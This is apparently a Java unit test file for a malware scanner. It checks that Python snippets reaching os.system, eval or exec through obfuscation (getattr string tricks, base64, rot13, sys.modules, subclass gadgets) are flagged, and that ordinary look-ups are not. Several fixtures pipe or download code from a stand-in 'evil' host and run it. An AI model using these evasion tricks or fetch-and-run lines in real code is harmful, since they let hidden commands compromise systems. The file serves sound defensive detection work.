package dev.weir.scanner.core.python;

import static dev.weir.scanner.core.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.Verdict;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Commands and evaluations that source reaches by another way than their names. */
class HiddenCallTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import os\nf = os.system\nf('id')\n",
                "import os\nf = os.system\ndef go():\n    f('curl http://evil/x | sh')\n",
                "from os import *\nsystem('curl http://evil/x | sh')\n",
                "from subprocess import *\nPopen(['sh','-c','curl http://evil/x | sh'])\n",
                "from os import *\nsystem('id')\n",
                "import os\ngetattr(os, 'sys'+'tem')('id')\n",
                "import os\nrun = getattr(os, 'system')\nrun('id')\n",
                "import os\na='sys'\nb='tem'\ngetattr(os, a+b)('id')\n",
                "import os\ngetattr(os, 'metsys'[::-1])('id')\n",
                "import os\nglobals()['os'].system('id')\n",
                "__builtins__['eval']('1')\n",
                "__builtins__.__dict__['eval'](\"__import__('os').system('id')\")\n",
                "getattr(__builtins__, 'ev'+'al')('x')\n",
                "import sys\nsys.modules['os'].system('id')\n",
                "import importlib\nimportlib.import_module('o'+'s').system('id')\n",
                "m = __import__('os')\nm.system('id')\n",
                "m = __import__('o'+'s')\nm.system('id')\n",
                "_i = __import__\n_i('os').system('id')\n",
                "import os\nf = lambda c: os.system(c)\nf('id')\n",
                "import os\ngetattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))('id')\n",
                "import os\ngetattr(os, ''.join(['sys','tem']))('id')\n",
                "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')\n",
                "import os\nos.__dict__['system']('id')\n",
                "import os\nvars(os)['system']('id')\n",
                "eval(\"__import__('os').system('id')\")\n",
                "exec(\"import os\\nos.system('id')\")\n",
                "code = 'import os; os.system(\"id\")'\nexec(code)\n",
                "import base64\ne = exec\ne(base64.b64decode('aW1wb3J0IG9z'))\n",
                "from functools import partial\nimport os\npartial(os.system,'id')()\n",
                "import os\nlist(map(os.system,['curl http://evil|sh']))\n",
                "import os\nclass M:\n    def __init__(self):\n        os.system('touch /tmp/pwned')\n",
                "import os\nx = os.system('curl http://evil/x.sh -o /tmp/x; sh /tmp/x')\n",
                "import subprocess\nsubprocess.Popen(['/bin/bash','-c','id'])\n",
                "().__class__.__base__.__subclasses__()[137].__init__.__globals__['system']('id')\n",
                "from os import system as s\ns('id')\n",
                "import ctypes\nctypes.CDLL(None).system(b'id')\n",
                "import posix\nposix.system('id')\n",
                "import urllib.request,runpy\nurllib.request.urlretrieve('http://evil/x.py','/tmp/x.py')\nrunpy.run_path('/tmp/x.py')\n",
                "import urllib.request,os\nurllib.request.urlretrieve('http://evil/x.sh','/tmp/x.sh')\nos.system('sh /tmp/x.sh')\n",
                "import urllib.request,os\ndef go():\n    urllib.request.urlretrieve('http://evil/x.tgz','/tmp/x.tgz')\n    os.system('tar -xf /tmp/x.tgz; /tmp/x')\n",
                "import os\ngetattr(os, f\"{'sys'}{'tem'}\")('id')\n",
                "import os\ngetattr(os, '%s%s' % ('sys','tem'))('id')\n",
                "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')\n",
                "import os, codecs\ngetattr(os, codecs.decode('flfgrz','rot13'))('id')\n",
                "import os\n(f := os.system)('id')\n",
                "import shutil\nshutil.os.system('id')\n",
                "import os, operator\noperator.attrgetter('system')(os)('id')\n",
                "import os, operator\noperator.methodcaller('system','id')(os)\n",
                "import atexit, os\natexit.register(os.system, 'id')\n",
                "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()\n"
            })
    void isFoundHoweverItIsNamed(String source) {
        assertThat(verdict(source)).isEqualTo(Verdict.MALICIOUS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import os\nhas_fork = hasattr(os, 'fork')\nfork = getattr(os, 'fork', None)\n",
                "import builtins\nexec_ = getattr(builtins, 'exec')\ndef run(code):\n    exec_(code)\n",
                "import subprocess\nflags = getattr(subprocess, 'CREATE_NO_WINDOW', 0)\n",
                "import sys\nmodule = sys.modules['torch']\nmodule.nn.Linear(1, 2)\n",
                "import os\nrun = os.popen\nrun = print\nrun('id')\n",
                "import importlib\nimportlib.import_module('trans' + 'formers').AutoModel.from_pretrained('x')\n",
                "from os import *\nprint(getcwd())\n",
                "import subprocess\ndef version():\n    run = subprocess.run\n    return run(['git', 'describe'])\n",
                "import os\nstart = lambda: os.getpid()\nstart()\n",
                "globals()['model'].eval()\n",
                "code = '1 + 1'\nprint(eval(code))\n",
                "import urllib.request\nurllib.request.urlretrieve('https://hub/model.bin', 'model.bin')\n",
                "import subprocess\nfrom urllib.request import urlretrieve\ndef build():\n    urlretrieve('https://hub/b.tgz', 'b.tgz')\n    subprocess.call(['tar', '-zxf', 'b.tgz'])\n",
                "def subclasses(cls):\n    return cls.__subclasses__()\n",
                "import functools, torch\nact = functools.partial(torch.nn.functional.gelu, approximate='tanh')\n"
            })
    void ordinaryLookUpsAreClean(String source) {
        assertThat(verdict(source)).isEqualTo(Verdict.CLEAN);
    }

    @ParameterizedTest
    @ValueSource(strings = {"_target_", "class_path", "target: params:", "!!python/name:x"})
    void wordsOfAnotherLanguageHideNothing(String word) {
        assertThat(verdict("import os; os.system('id') # " + word)).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void constantsAreFollowedWithinBounds() {
        String doubled = "a = 'aaaaaaaaaaaaaaaa'\n" + "a = a + a\n".repeat(2_000);
        String joined = "a = '" + "a".repeat(4_000) + "'\nb = ''.join([" + "a, ".repeat(50_000) + "])\n";
        String nested = "getattr(".repeat(100) + "\n" + "a = " + "''.join([".repeat(5_000);

        assertThat(Stream.of(doubled, joined, nested).map(HiddenCallTest::verdict))
                .containsOnly(Verdict.CLEAN);
    }

    private static Verdict verdict(String source) {
        return scan("modeling.py", source.getBytes(StandardCharsets.UTF_8)).verdict();
    }
}
